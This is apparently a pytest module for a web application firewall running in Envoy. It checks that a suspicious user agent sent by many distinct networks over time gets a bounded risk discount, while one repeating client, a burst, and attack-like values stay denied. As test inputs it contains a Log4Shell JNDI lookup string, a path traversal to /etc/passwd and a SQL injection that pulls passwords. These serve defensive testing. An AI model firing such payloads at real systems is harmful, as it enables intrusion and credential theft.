"""Value consensus in a real Envoy (--concurrency 2): a suspicious value that many distinct client
networks send on a route, spread over time, is discounted within bounds; one client repeating it,
a burst from many networks at once, values with a hard class's syntax and strong attack scores are
not.

The value is a real client's user agent, and the route's thresholds sit just below the score the
shipped model gives it, so that it is denied there: the false positive consensus is for. Which
user agent, and the thresholds, are chosen when the module starts by scoring candidates with the
CLI (`apiward eval`, the same extractor and model as the filter), so the test holds its meaning
for any model: it needs a value the route denies whose discounted risk falls below deny, and two
values carrying JNDI and traversal syntax in that same zone (never discounted). One Envoy serves
every scenario; `/api/legacy/` has the same thresholds in monitor mode. `min_age_s` is 2: new
clients are credited at most ceil(min_clients / 4) = 1 per half-second quarter, so the scenarios
send one new network every 0.6 s. Clients are told apart by X-Forwarded-For with one trusted hop;
networks are /24s.
"""

from __future__ import annotations

import json
import math
import re
import subprocess
import tempfile
import time
import urllib.parse
from dataclasses import dataclass
from pathlib import Path

import pytest

import harness
from scenarios import assert_annotated

MIN_CLIENTS = 4
MIN_AGE_S = 2
USERS = "/api/users/2"
MONITORED = "/api/legacy/reports/daily"
CLI = harness.REPO / "target" / "release" / "apiward"
# Shapes of real clients' user agents; each has digits, so that variants differing only in digits
# (which the features fold) give three distinct values with the same score.
CANDIDATES = [
    "PowerShell/7.4.2 (Microsoft Windows 10.0.22631; en-US) WindowsPowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
    "cmd.exe backup job/1.0 (Windows Server 2019)",
    "sh (cron; nightly export) exporter/2.1",
    "bash-script/1.0 (deploy; linux)",
    "sysadmin-tools/2.0 (exec; linux)",
    "Boost.Beast/345",
    "Integration/1.0 (pytest; nightly) acme-sdk/2.4.0 (acme-sdk/2.4.0; Python/3.11.7; Linux/x86_64)",
    "ExampleGo/3.2.1 (+github.com/example/go-example; go1.22.5)",
    "sh-deploy/2.0 (bash; ci)",
    "Jenkins/2.440 (build; sh)",
    "ansible-httpapi/2.16 (python3; linux)",
]
# Real payloads, scored at or near 1.0.
JNDI_UA = "${jndi:ldap://203.0.113.9:1389/a}"
TRAVERSAL_QUERY = USERS + "?" + urllib.parse.urlencode({"file": "../../../../etc/passwd"})
SQLI_QUERY = USERS + "?" + urllib.parse.urlencode(
    {"q": "1' UNION SELECT username, password FROM users--"}
)


def discounted(risk: float, deny: float, max_discount: float) -> float:
    """`src/consensus.rs::discounted`: the odds divided by the factor that takes deny down by
    exactly max_discount; never more than max_discount below, never above risk."""
    floor = max(risk - max_discount, 0.0)
    if risk >= 1.0:
        return 1.0
    logit = lambda p: math.log(p / (1.0 - p))  # noqa: E731
    target = deny - max_discount
    if target <= 0.0 or risk <= 0.0:
        return min(max(floor, 0.0), risk)
    z = logit(risk) - (logit(deny) - logit(target))
    return min(max(1.0 / (1.0 + math.exp(-z)), floor), risk)


def variant(ua: str, digit: str) -> str:
    """`ua` with its last digit replaced: another value, the same features."""
    i = max(i for i, c in enumerate(ua) if c.isdigit())
    return ua[:i] + digit + ua[i + 1 :]


@dataclass
class Zone:
    sdk: str
    lone: str
    burst: str
    jndi_syntax: str
    traversal_syntax: str
    risk: float
    to: float
    thresholds: dict
    max_discount: float

    def reason(self) -> re.Pattern:
        return re.compile(
            rf"consensus: {MIN_CLIENTS} clients since \d+s on header:user-agent, "
            rf"risk (0\.\d+) -> (0\.\d+)"
        )

    def check_reason(self, reasons: str) -> bool:
        m = self.reason().search(reasons)
        return bool(m) and abs(float(m.group(1)) - self.risk) < 0.005 and abs(
            float(m.group(2)) - self.to
        ) < 0.005


def scores(values: list[str]) -> dict[str, float]:
    assert CLI.exists(), f"{CLI} is missing: `make cli` builds it"
    with tempfile.TemporaryDirectory() as tmp:
        src, out = Path(tmp) / "in.jsonl", Path(tmp) / "out.jsonl"
        src.write_text(
            "".join(
                json.dumps({"method": "GET", "uri": USERS, "headers": {"user-agent": v}, "label": "benign"}) + "\n"
                for v in values
            )
        )
        subprocess.run([str(CLI), "eval", "--in", str(src), "--out", str(out)], check=True,
                       capture_output=True, timeout=120)
        rows = [json.loads(line) for line in out.read_text().splitlines()]
    return {v: float(r["score"]) for v, r in zip(values, rows)}


def jndi_syntax(ua: str) -> list[str]:
    return [ua + " jndi:build", ua + " (jndi:x)", "jndi:build " + ua]


def traversal_syntax(ua: str) -> list[str]:
    cut = ua.find("(") + 1
    return [ua[:cut] + "../build " + ua[cut:], ua + " ../build", ua + " ..\\build", ua + " ..;/x"]


@pytest.fixture(scope="module")
def zone() -> Zone:
    """The most suspicious candidate for which a route's thresholds deny it while a discount
    would take it below deny, and a value with JNDI syntax and one with traversal syntax that
    those thresholds deny and a discount would also take below deny (were they not exempt)."""
    jndi = [v for ua in CANDIDATES for v in jndi_syntax(ua)]
    trav = [v for ua in CANDIDATES for v in traversal_syntax(ua)]
    score = scores(CANDIDATES + jndi + trav)
    for ua in sorted(CANDIDATES, key=lambda v: -score[v]):
        r = score[ua]
        deny = round(r - 0.01, 4)
        for m in sorted({min(0.3, 0.45 * deny), min(0.5, 0.6 * deny), min(0.5, 0.8 * deny)}):
            m = round(m, 4)
            if deny < 0.02 or m < 0.01:
                continue

            def in_zone(x: float) -> bool:
                return x >= deny + 0.005 and discounted(x, deny, m) < deny - 0.01

            if not in_zone(r):
                continue
            j = [v for v in jndi if in_zone(score[v])]
            t = [v for v in trav if in_zone(score[v])]
            if not (j and t):
                continue
            to = discounted(r, deny, m)
            thresholds = {"annotate": round(max(0.005, min(deny / 2, to - 0.02)), 4), "deny": deny}
            return Zone(ua, variant(ua, "7" if ua[-1] != "7" else "8"), variant(ua, "3" if ua[-1] != "3" else "4"),
                        j[0], t[0], r, to, thresholds, m)
    raise AssertionError(f"no candidate user agent can be put in a discount zone: {score}")


def config(z: Zone) -> dict:
    return {
        "mode": "enforce",
        "client_identity": {"trusted_xff_hops": 1},
        "routes": [
            {"prefix": "/api/legacy/", "mode": "monitor", "thresholds": z.thresholds},
            {"prefix": "/api/users/", "thresholds": z.thresholds},
        ],
        # Model denies from one client would block it after the third; the scenarios repeat values.
        "behaviour": {"signals": {"model_denies": {"limit": 1000}, "not_found": {"limit": 100000}}},
        "consensus": {
            "min_clients": MIN_CLIENTS,
            "min_age_s": MIN_AGE_S,
            "window_s": 60,
            "max_discount": z.max_discount,
        },
    }


@pytest.fixture(scope="module")
def consensus_envoy(envoy_pool, zone) -> harness.Envoy:
    return envoy_pool.get("consensus", config(zone))


def send(envoy: harness.Envoy, network: int, path: str = USERS, ua: str | None = None):
    headers = {"x-forwarded-for": f"198.51.{network}.7"}
    if ua is not None:
        headers["user-agent"] = ua
    return envoy.request("GET", path, headers=headers, timeout=15)


def denied(resp: harness.Response) -> bool:
    return resp.status == 403 and resp.headers.get("content-type", "").startswith(
        "application/problem+json"
    )


def consensus_metric(envoy: harness.Envoy, outcome: str) -> float:
    samples = harness.prometheus_samples(envoy.stats_prometheus())
    return sum(
        v
        for k, v in samples.items()
        if k.startswith("apiward_consensus_total{") and f'outcome="{outcome}"' in k
    )


@pytest.fixture(scope="module")
def spread(consensus_envoy, zone):
    """Every scenario at once: MIN_CLIENTS networks, one every 0.6 s, send each value (the lone
    client repeats its own); then, once MIN_AGE_S has passed, the last request of each."""
    e, z = consensus_envoy, zone
    first = {
        "sdk": send(e, 1, ua=z.sdk),
        "lone": send(e, 200, ua=z.lone),
        "monitor": send(e, 1, MONITORED, ua=z.sdk),
    }
    # A burst: one value from 12 networks within a fraction of a second.
    burst = [send(e, 100 + i, ua=z.burst) for i in range(12)]
    started = time.monotonic()
    for network in range(1, MIN_CLIENTS + 1):
        send(e, network, ua=z.sdk)
        send(e, network, MONITORED, ua=z.sdk)
        send(e, network, ua=z.jndi_syntax)
        send(e, network, ua=z.traversal_syntax)
        send(e, network, ua=JNDI_UA)
        send(e, network, TRAVERSAL_QUERY)
        send(e, network, SQLI_QUERY)
        send(e, 200, ua=z.lone)
        time.sleep(0.6)
    time.sleep(max(0.0, MIN_AGE_S + 0.2 - (time.monotonic() - started)))
    last = {
        "sdk": send(e, 1, ua=z.sdk),
        "lone": send(e, 200, ua=z.lone),
        "burst": send(e, 100, ua=z.burst),
        "monitor": send(e, 2, MONITORED, ua=z.sdk),
        "jndi_syntax": send(e, 1, ua=z.jndi_syntax),
        "traversal_syntax": send(e, 2, ua=z.traversal_syntax),
        "jndi": send(e, 3, ua=JNDI_UA),
        "traversal": send(e, 4, TRAVERSAL_QUERY),
        "sqli": send(e, 3, SQLI_QUERY),
    }
    return {"first": first, "burst": burst, "last": last}


def test_the_user_agent_is_denied_under_this_route_before_it_has_consensus(spread):
    assert denied(spread["first"]["sdk"]), spread["first"]["sdk"].status
    assert all(denied(r) for r in spread["burst"])


def test_a_value_many_networks_send_over_min_age_passes_with_the_consensus_reason(
    consensus_envoy, zone, spread
):
    resp = spread["last"]["sdk"]
    assert resp.status == 200, (resp.status, resp.body[:300])
    ann = assert_annotated(resp, mode="enforce")
    assert ann["action"] == "annotate" and abs(float(ann["score"]) - zone.to) < 0.005, (ann, zone)
    assert zone.check_reason(ann["reasons"]), (ann, zone)
    assert consensus_metric(consensus_envoy, "discounted") >= 1
    assert consensus_metric(consensus_envoy, "recorded") >= MIN_CLIENTS


def test_one_client_repeating_a_value_stays_denied(spread):
    assert denied(spread["last"]["lone"]), spread["last"]["lone"].status


def test_a_burst_from_many_networks_at_once_earns_no_consensus(spread):
    assert denied(spread["last"]["burst"]), spread["last"]["burst"].status


def test_monitor_mode_shows_the_discount_it_would_apply(zone, spread):
    before = assert_annotated(spread["first"]["monitor"], mode="monitor")
    assert before["action"] == "deny", before
    after = assert_annotated(spread["last"]["monitor"], mode="monitor")
    assert after["action"] == "annotate" and zone.check_reason(after["reasons"]), (after, zone)


@pytest.mark.parametrize("name", ["jndi_syntax", "traversal_syntax", "jndi", "traversal"])
def test_hard_class_payloads_from_many_networks_stay_denied(spread, name):
    assert denied(spread["last"][name]), spread["last"][name].status


def test_values_with_hard_syntax_in_the_discount_zone_are_counted_as_exempt(
    consensus_envoy, spread
):
    # The two syntax values were in the zone on each of their 2 × (MIN_CLIENTS + 1) requests.
    assert consensus_metric(consensus_envoy, "exempt") >= 2 * (MIN_CLIENTS + 1)


def test_a_strong_attack_score_from_many_networks_stays_denied(spread):
    assert denied(spread["last"]["sqli"]), spread["last"]["sqli"].status
